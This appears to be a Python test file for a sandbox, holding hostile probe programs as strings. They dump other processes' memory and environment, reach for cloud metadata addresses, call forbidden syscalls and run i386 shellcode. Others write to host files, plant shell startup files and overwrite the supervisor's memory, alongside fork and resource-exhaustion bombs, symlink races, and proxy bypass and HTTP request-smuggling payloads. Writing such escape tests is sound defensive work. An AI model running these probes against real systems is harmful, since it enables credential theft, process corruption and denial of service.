"""Hostile programs, each run inside a sandbox. They print what they have found; who judges is outside.

`@secret@` and the like are the places of canaries: a program knows where to look, so that only the sandbox stops it.
"""

from __future__ import annotations

# Everything that /proc shows of any process, and what the program itself has open.
PROC = r"""
import os
for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
    for name in ("environ", "cmdline", "maps", "mountinfo"):
        try:
            print(pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:20000])
        except OSError as error:
            pass
    for name in ("root", "cwd", "exe"):
        try:
            print(pid, name, os.listdir(f"/proc/{pid}/{name}@canary_folder@"))
        except OSError:
            pass
    try:
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for line in open(f"/proc/{pid}/maps"):
                start, end = (int(word, 16) for word in line.split()[0].split("-"))
                if "[stack]" in line or "[heap]" in line:
                    memory.seek(start)
                    print(memory.read(min(end - start, 1 << 20)))
    except OSError:
        pass
print("FDS", sorted(int(fd) for fd in os.listdir("/proc/self/fd"))[:-1], os.environ)
"""

# Every way to another place: the canaries listen for all of them.
NETWORK = r"""
import socket, itertools
def attempt(what, action):
    try:
        print("REACHED", what, action())
    except OSError as error:
        print(what, error)
def tcp(host, port, family):
    def go():
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(1)
            one.connect((host, port))
            one.sendall(b"out")
    return go
for host, family in (("127.0.0.1", 2), ("::1", 10), ("@host@", 2), ("169.254.169.254", 2), ("fd00:ec2::254", 10)):
    for port in (@port@, 80, 53):
        if (host, port) != ("127.0.0.1", 80):
            attempt(f"tcp {host} {port}", tcp(host, port, family))
def udp():
    with socket.socket(2, socket.SOCK_DGRAM) as one:
        return one.sendto(b"out", ("@host@", @port@))
attempt("udp", udp)
for address in ("@unix@", "\0@abstract@"):
    def unix():
        with socket.socket(1, socket.SOCK_STREAM) as one:
            one.connect(address)
            one.sendall(b"out")
    attempt("unix", unix)
attempt("dns", lambda: socket.getaddrinfo("example.com", 80))
for family in range(64):
    if family in (1, 2, 10):
        continue
    for kind in (1, 2, 3):
        try:
            socket.socket(family, kind, 0).close()
            print("FAMILY", family)
        except OSError:
            pass
for kind in (socket.SOCK_RAW,):
    attempt("raw", lambda: socket.socket(2, kind, 1))
with open("/proc/net/dev") as file:
    print("DEVICES", [line.split(":")[0].strip() for line in file][2:])
"""

# Calls that must not work, by their numbers on x86-64 and on aarch64.
CALLS = r"""
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
calls = dict(
    unshare=(272, 97), setns=(308, 268), mount=(165, 40), umount2=(166, 39), pivot_root=(155, 41),
    ptrace=(101, 117), bpf=(321, 280), io_uring_setup=(425, 425), userfaultfd=(323, 282),
    keyctl=(250, 219), add_key=(248, 217), perf_event_open=(298, 241), kexec_load=(246, 104),
    init_module=(175, 105), open_by_handle_at=(304, 265), process_vm_readv=(310, 270),
    fsopen=(430, 430), open_tree=(428, 428), move_mount=(429, 429), pidfd_getfd=(438, 438),
    chroot=(161, 51), swapon=(167, 224), reboot=(169, 142), sethostname=(170, 161),
    clone3=(435, 435), personality=(135, 92), memfd_create=(319, 279), msgget=(68, 186), semget=(64, 190),
    io_setup=(206, 0), fallocate=(285, 47), open_tree_attr=(467, 467),
)
for name, numbers in calls.items():
    number = numbers[0] if x86 else numbers[1]
    first = 0x10000000 if name == "unshare" else 0
    ctypes.set_errno(0)
    result = libc.syscall(number, first, 0, 0, 0, 0)
    error = ctypes.get_errno()
    if result != -1 or error not in (1, 38, 95):
        print("CALL", name, result, error)
import fcntl, socket
# Typing; an allocation of a mebibyte by three older names, and how much a file takes at once.
with open("/mnt/data/calls", "wb") as file:
    own = file.fileno()
    space = bytes(16) + (1 << 20).to_bytes(8, "little") + bytes(24)
    for fd, number in ((0, 0x5412), (own, 0x40305828), (own, 0x4030582A), (own, 0x40305839), (own, 0x401C5820)):
        try:
            print("CALL", hex(number), fcntl.ioctl(fd, number, space))
        except OSError:
            pass
for family in (socket.AF_INET, socket.AF_INET6):
    for kind in (1, 2, 5, 6):
        for protocol in range(1, 300):
            try:
                socket.socket(family, kind, protocol).close()
                if protocol not in (1, 6, 17):
                    print("CALL socket", family, kind, protocol)
            except OSError:
                pass
for name in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp", "CapInh", "CapAmb"):
    for line in open("/proc/self/status"):
        if line.startswith(name + ":"):
            print("STATUS", line.split()[0], line.split()[1])
"""

# A call by the numbers of i386: the filter must not mistake it, and kills.
I386 = r"""
import ctypes, mmap
code = bytes.fromhex("b814000000cd80c3")   # mov eax, 20 (getpid); int 0x80; ret
page = mmap.mmap(-1, 4096, prot=7)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("I386", call())
"""
X32 = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("X32", libc.syscall(0x40000000 + 39), ctypes.get_errno())
"""

# Files of the host, read or written by every path that there is.
FILES = r"""
import os, itertools
def attempt(what, action):
    try:
        print(what, action())
    except (OSError, ValueError) as error:
        pass
def write_again(path):
    # What was there: a hole that is planted must not change the host.
    try:
        before = open(path).read() or "x"
    except OSError:
        before = "x"
    return open(path, "w").write(before)
for path in ("@secret@", "/proc/1/root@secret@", "/proc/self/root@secret@", "/proc/self/cwd/../../../../@secret@",
             "/etc/shadow", "/root", "/sys/kernel", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/var"):
    attempt("READ " + path, lambda: open(path, "rb").read(200) if not os.path.isdir(path) else os.listdir(path))
for path in ("/usr/x", "/etc/x", "/x", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/dev/x", "/run/x",
             "/usr/bin/x", "/proc/sys/kernel/core_pattern", "/bin/x"):
    attempt("WROTE " + path, lambda: write_again(path))
attempt("MKNOD", lambda: os.mknod("/mnt/data/disk", 0o60600, os.makedev(8, 0)))
attempt("SETUID", lambda: os.setuid(0))
attempt("CHOWN", lambda: os.chown("/mnt/data", 0, 0))
attempt("NICE", lambda: os.nice(-5))
# What a kernel lets its programs set, for namespaces of their own too. Nothing is set.
for folder, _, names in os.walk("/proc/sys"):
    for name in names:
        attempt("WROTE " + folder + "/" + name, lambda: os.close(os.open(os.path.join(folder, name), os.O_WRONLY)))
attempt("", lambda: open("/proc/self/oom_score_adj", "w").write("0"))
print("LAST-TO-END", open("/proc/self/oom_score_adj").read().strip())
# Every mount, and every folder of the first levels: what can be written, is.
places = {line.split()[4] for line in open("/proc/self/mountinfo")}
for level in range(3):
    for base in list(places):
        attempt("", lambda: places.update(os.path.join(base, one) for one in os.listdir(base)
                if base.count("/") < 3 and not base.startswith("/proc") and os.path.isdir(os.path.join(base, one))))
allowed = ("/mnt/data", "/tmp", "/home/user", "/dev/shm", "/proc/")
for place in sorted(places):
    if not place.startswith(allowed):
        attempt("WROTE " + place, lambda: open(os.path.join(place, "escaped"), "w").write("x"))
"""

# The supervisor: signals, its descriptors, its memory, and what waits for the next command.
SUPERVISOR = r"""
import os, signal
for number in range(1, 65):
    if number not in (signal.SIGCHLD,):
        try:
            os.kill(1, number)
        except OSError:
            pass
for fd in range(64):
    for flags in (os.O_RDWR, os.O_WRONLY):
        try:
            opened = os.open(f"/proc/1/fd/{fd}", flags | os.O_NONBLOCK)
            os.write(opened, b"\xff" * 4096)
        except OSError:
            pass
for name, text in ((".bashrc", "echo PLANTED"), (".profile", "echo PLANTED"), ("sitecustomize.py", "print('PLANTED')"),
                   ("sh", "#!/bin/sh\necho PLANTED")):
    for folder in ("/mnt/data", "/home/user"):
        try:
            open(os.path.join(folder, name), "w").write(text)
            os.chmod(os.path.join(folder, name), 0o755)
        except OSError:
            pass
print("done")
"""

# Takes the place of the supervisor, and does to the keeper what each command says.
LIAR = r"""
import socket, struct, sys, time
HEADER = struct.Struct("<IcI")
channel = socket.socket(fileno=0)
def send(kind, number, body=b""):
    channel.sendall(HEADER.pack(len(body), kind, number) + body)
def read(size):
    data = b""
    while len(data) < size:
        data += channel.recv(size - len(data)) or sys.exit()
    return data
send(b"+", 0)
while True:
    size, kind, number = HEADER.unpack(read(HEADER.size))
    command = read(size).decode("latin-1")
    if kind != b"r":
        continue
    if command == "flood":
        while True:
            send(b"o", number, b"x" * 65536)
    elif command == "others":
        for other in (0, number + 1, 2**32 - 1):
            for kind in (b"o", b"e", b"d", b"x", b"i"):
                send(kind, other, b"\xff\xff\xff\xff")
    elif command == "long":
        channel.sendall(HEADER.pack(2**32 - 1, b"o", number) + b"x" * 1000)
        continue
    elif command == "kind":
        send(b"\0", number)
    elif command == "code":
        send(b"x", number, b"\0")
    elif command == "half":
        channel.sendall(HEADER.pack(100, b"o", number)[:5])
        continue
    elif command == "twice":
        send(b"x", number, bytes(4))
    send(b"o", number, b"fine\n")
    send(b"x", number, bytes(4))
"""

# Writes over all that the first process may change of its memory: it runs as the same user.
SCRIBBLE = r"""
try:
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        for line in open("/proc/1/maps"):
            start, end = (int(word, 16) for word in line.split()[0].split("-"))
            if " rw" in line:
                memory.seek(start)
                memory.write(b"\xff" * min(end - start, 1 << 22))
except OSError as error:
    print(error)
print("done")
"""

# Makes a folder again and again a link to a folder outside, and the other way round.
SWAP = r"""
import os, time
os.chdir("/mnt/data")
until = time.monotonic() + 2
while time.monotonic() < until:
    for make in (lambda: os.mkdir("new"), lambda: os.symlink("@canary_folder@/shared", "new")):
        try:
            make()
            os.rename("d", f"old{time.monotonic_ns()}")
        except OSError:
            pass
        try:
            os.rename("new", "d")
        except OSError:
            pass
"""

# --- bombs: bounded ones, in a sandbox with small limits ----------------------------------------------

FORK = r"""
import os, time
made = 0
try:
    while made < 2000:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        made += 1
except OSError as error:
    print("stopped", made, error)
print("MADE", made)
os.kill(0, 9)
"""
THREADS = r"""
import threading, time
made = 0
try:
    while made < 2000:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        made += 1
except RuntimeError as error:
    print("stopped", made, error)
print("MADE", made, flush=True)
import os
os._exit(0)
"""
MEMORY = r"""
held = []
for number in range(600):
    held.append(bytearray(1 << 20))
print("HELD", len(held))
"""
CHILDREN_MEMORY = r"""
import os, time
for number in range(12):
    if os.fork() == 0:
        held = bytearray(b"x") * (40 << 20)
        time.sleep(2)
        os._exit(0)
time.sleep(2)

"""
SHARED_MEMORY = r"""
import os
written = 0
for folder in ("/dev/shm", "/tmp", "/home/user"):
    try:
        with open(os.path.join(folder, "big"), "wb") as file:
            for number in range(600):
                written += file.write(bytes(1 << 20))
    except OSError as error:
        print(folder, error)
print("HELD", written >> 20)
"""
PIPES = r"""
import os, socket
held, size = [], 0
try:
    while size < (600 << 20):
        a, b = socket.socketpair()
        a.setblocking(False)
        held += [a, b]
        try:
            while True:
                size += a.send(bytes(1 << 16))
        except BlockingIOError:
            pass
except OSError as error:
    print(error)
print("HELD", size >> 20)
"""
# What sockets keep, of some processes and as much as each may have; at most 240 MiB.
SOCKETS = r"""
import os, socket, time
ready, done = os.pipe()
for child in range(6):
    if os.fork() == 0:
        held, size = [], 0
        while size < (40 << 20) and len(held) < 240:
            pair = socket.socketpair()
            held += pair
            for one in pair:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
                one.setblocking(False)
                try:
                    while True:
                        size += one.send(bytes(1 << 16))
                except BlockingIOError:
                    pass
        os.write(done, size.to_bytes(8, "little"))
        time.sleep(2)
        os._exit(0)
held = sum(int.from_bytes(os.read(ready, 8), "little") for child in range(6))
time.sleep(0.5)
print("HELD", held >> 27 << 7)
"""
# The same of TCP, at most 300 MiB: the kernel has one limit for all of the machine.
TCP = r"""
import socket, time
server = socket.create_server(("127.0.0.1", 0))
held, size = [], 0
while size < (300 << 20) and len(held) < 240:
    near = socket.create_connection(server.getsockname())
    held += [near, server.accept()[0]]
    for one in held[-2:]:
        one.setblocking(False)
        try:
            while True:
                size += one.send(bytes(1 << 16))
        except BlockingIOError:
            pass
time.sleep(0.5)
print("HELD", size >> 28 << 8)
"""
DISK = r"""
import os, time
written = 0
for number in range(100):
    with open(f"/mnt/data/{number}", "wb") as file:
        for _ in range(8):
            written += file.write(os.urandom(1 << 20))
            time.sleep(0.01)
print("HELD", written >> 20)
"""
UNLINKED = r"""
import mmap, os, time
held, written = [], 0
for number in range(100):
    file = open("/mnt/data/x", "w+b")
    os.unlink("/mnt/data/x")
    for _ in range(8):
        written += file.write(os.urandom(1 << 20))
        time.sleep(0.01)
    file.flush()
    # Every second one is only mapped.
    held.append(mmap.mmap(file.fileno(), 0) if number % 2 else file)
    del file
print("HELD", written >> 20)
"""
BIG_FILE = r"""
try:
    with open("/mnt/data/big", "wb") as file:
        for _ in range(600):
            file.write(bytes(1 << 20))
            file.flush()
    print("HELD 600")
except OSError as error:
    print("stopped", error)
"""
# Tables for addresses at which nothing is kept: 1,000 MiB of them.
PAGE_TABLES = r"""
import mmap
held = []
for number in range(1000):
    block = mmap.mmap(-1, 512 << 21, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
    block.madvise(mmap.MADV_NOHUGEPAGE)
    for place in range(0, len(block), 1 << 21):
        block[place]
    held.append(block)
    if len(held) % 32 == 0:
        import time
        time.sleep(0.03)
print("HELD 1000")
"""
# Memory of System V that nobody has mapped, and its other stores; as many pieces as one may ask for.
SYSTEM_V = r"""
import ctypes
try:
    open("/proc/sys/kernel/shmmni", "w").write("32768")
except OSError as error:
    print(error)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
held = 0
for size in (1 << 20, 1 << 16):
    while held < 600 << 20:
        key = libc.shmget(0, ctypes.c_size_t(size), 0o1600)
        if key == -1:
            break
        place = libc.shmat(key, None, 0)
        ctypes.memset(place, 1, size)
        libc.shmdt(ctypes.c_void_p(place))
        held += size
    print(size, held >> 20, ctypes.get_errno())
if libc.msgget(0, 0o1600) != -1 or libc.semget(0, 32000, 0o1600) != -1:
    print("HELD 600")
print("HELD", held >> 20)
"""
INODES = r"""
import os, time
for number in range(20000):
    open(f"/mnt/data/{number}", "w").close()
    if number % 500 == 0:
        time.sleep(0.05)
print("HELD 20000")
"""
DEEP = r"""
import os
os.chdir("/mnt/data")
for number in range(2000):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
open(b"\xff\xfe" + b"n" * 250, "w").close()
print("made")
"""

# Below folders whose path has fewer letters than bytes.
LONG_NAMES = "import os; os.chdir('/mnt/data')\nfor n in range(17): os.mkdir('é' * 127); os.chdir('é' * 127)\n"
LONG_NAMES += DISK.replace("/mnt/data/", "")
# Nobody waits for what works here.
UNWAITED = r"""
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for child in range(8):
    if os.fork() == 0:
        while time.process_time() < 0.05:
            pass
        os._exit(0)
    try:
        os.wait()
    except ChildProcessError:
        pass
"""

# Hears no signal that can be ignored; without quotes, for a command line.
DEAF = """import signal,time
for n in range(1,32):
  signal.signal(n, signal.SIG_IGN) if n not in (9, 19) else None
time.sleep(60)"""

# --- the proxy --------------------------------------------------------------------------------------------

# Requests as raw bytes, to the forwarder and to the door itself; the first line of each answer is printed.
PROXY = r"""
import socket, ssl, time, urllib.request

def say(name, *pieces, place=("127.0.0.1", 3128)):
    family = socket.AF_INET if isinstance(place, tuple) else socket.AF_UNIX
    with socket.socket(family) as s:
        s.settimeout(10)
        answer = b""
        try:
            s.connect(place)
            for piece in pieces:
                s.sendall(piece)
            while data := s.recv(65536):
                answer += data
        except OSError as error:
            answer = answer or type(error).__name__.encode()
    print(name, answer.count(b"HTTP/1."), answer.split(b"\r\n")[0].decode("latin-1")[:120], flush=True)
    if b"SERVED" in answer:
        print("GOT", name, flush=True)

def get(target, host=None, extra=""):
    host = host if host is not None else target.split("/")[2]
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n".encode()

def connect(target, host=None):
    return f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n".encode()

allowed = "allowed.example.com"
for door in (("127.0.0.1", 3128), "/run/door/proxy"):
    say("other", get("http://other.example.com/"), place=door)
    say("other-tls", connect("other.example.com:443"), place=door)
for literal in ("93.184.216.34", "127.0.0.1", "[::1]", "2130706433", "0x7f000001", "0x7f.1", "localhost",
                "169.254.169.254", "[::ffff:127.0.0.1]", "127.1"):
    say("literal", get(f"http://{literal}/"))
    say("literal-tls", connect(f"{literal}:443"))
for name in ("loopback", "private", "metadata", "mapped", "nowhere"):
    say("inside", get(f"http://{name}.example.com/"))
    say("inside-tls", connect(f"{name}.example.com:443"))
for name in ("rebound", "rebound-later", "rebound-later"):
    say(name, get("http://rebound.example.com/rebound"))
for odd in (f"{allowed}%2eevil.org", f"{allowed}%00.evil.org", f"{allowed}:80@evil.org", f"evil.org:80#@{allowed}",
            f"{allowed}\t", f"{allowed},evil.org", f"[{allowed}]", f"{allowed}:0x50", f"{allowed}:080",
            f"{allowed}:+80", "allowed_example.com", "*.example.com", "\xe1llowed.example.com",
            "xn--allowed.example.com", "[fe80::1%25lo]", "[::]", "0", "169.254.169.254.", "a" * 300 + ".com"):
    say("odd-name", get(f"http://{odd}/", host=odd))
    say("odd-name", connect(f"{odd}:443", host=odd))
say("odd-name", connect(f"{allowed}:443")[:-2] + b"Content-Length: 40\r\n\r\n" + b"x" * 40)
say("odd-name", f"GET http://{allowed}/ HTTP/1.1\nHost: evil.org\n\n".encode())
say("odd-name", f"GET http://{allowed}/ HTTP/1.1\r\nHost : evil.org\r\n\r\n".encode())
say("odd-name", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
say("odd-name", f"OPTIONS * HTTP/1.1\r\nHost: {allowed}\r\n\r\n".encode())
for port in (22, 80, 25, 8443, 0, 65536, 99999999):
    say("port", connect(f"{allowed}:{port}"))
say("port-plain", get(f"http://{allowed}:443/", host=f"{allowed}:443"))
say("port-plain", get(f"http://{allowed}:22/", host=f"{allowed}:22"))
say("no-port", connect(allowed))
say("origin", get("/", host=allowed))
say("https-plain", get(f"https://{allowed}/"))
say("user", get(f"http://{allowed}@other.example.com/"))
say("user-2", get(f"http://other.example.com@{allowed}/"))
say("question", get(f"http://other.example.com?.{allowed}/", host="other.example.com"))
say("backslash", get(f"http://other.example.com\\.{allowed}/", host="other.example.com"))
say("suffix", get(f"http://{allowed}.evil.org/"))
say("prefix", get(f"http://evil{allowed}/"))
say("dot", get(f"http://{allowed}./"))
say("host", get(f"http://{allowed}/", host="other.example.com"))
say("host-twice", get(f"http://{allowed}/", extra="Host: other.example.com\r\n"))
say("host-tls", connect(f"{allowed}:443", host="other.example.com:443"))

def post(headers, body, path=""):
    return f"POST http://{allowed}/{path} HTTP/1.1\r\nHost: {allowed}\r\n{headers}\r\n{body}".encode()

length, chunked = "Content-Length: 4\r\n", "Transfer-Encoding: chunked\r\n"
second = "GET http://other.example.com/smuggled HTTP/1.1\r\nHost: other.example.com\r\n\r\n"
say("smuggle-both", post(length + chunked, "0\r\n\r\n" + second))
say("smuggle-cl", post(length + "Content-Length: 40\r\n", "abcd"))
say("smuggle-te", post("Transfer-Encoding: xchunked\r\n", "0\r\n\r\n"))
say("smuggle-chunk", post(chunked, "4;ext=1\r\nabcd\r\n0\r\n\r\n" + second, "chunked"))
say("folded", get(f"http://{allowed}/folded", extra="X: 1\r\n Host: other.example.com\r\n"))
say("not-http", b"\x16\x03\x01\x00\x05hello\r\n\r\n")
say("long", b"GET http://" + b"a" * 100000)
say("plain-in-tunnel", connect(f"{allowed}:443"), f"GET /plain HTTP/1.1\r\nHost: {allowed}\r\n\r\n".encode())

def tls(name, sni, verify=False):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(connect(f"{allowed}:443"))
    head = s.recv(4096)
    try:
        with context.wrap_socket(s, server_hostname=sni) as inner:
            inner.sendall(f"GET /{name} HTTP/1.1\r\nHost: {allowed}\r\n\r\n".encode())
            print("GOT" if inner.recv(4096) else "EMPTY", name, flush=True)
    except OSError as error:
        print(name, head.split(b"\r\n")[0].decode(), "then", type(error).__name__, flush=True)

tls("sni-other", "other.example.com")
tls("sni-none", None)
tls("sni-below", "x.allowed.example.com")
try:
    urllib.request.urlopen(f"http://{allowed}/redirect", timeout=10)
    print("GOT redirect")
except OSError as error:
    print("redirect", error, flush=True)
"""

# Ten thousand connections that say nothing, or a byte now and then; those that are open at the end are counted.
CROWD = r"""
import os, select, socket, time
opened, children = 0, []
for child in range(16):
    if os.fork() == 0:
        held = []
        for number in range(625):
            place = ("127.0.0.1", 3128) if number % 4 == 0 else "/run/door/proxy"
            s = socket.socket(socket.AF_INET if number % 4 == 0 else socket.AF_UNIX)
            s.setblocking(False)
            try:
                s.connect(place)
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                continue
            held.append(s)
            if len(held) > 200:
                held.pop(0).close()
            try:
                s.send(b"G")
            except OSError:
                pass
        os._exit(0)
for child in range(16):
    os.wait()
print("tried 10000")
"""
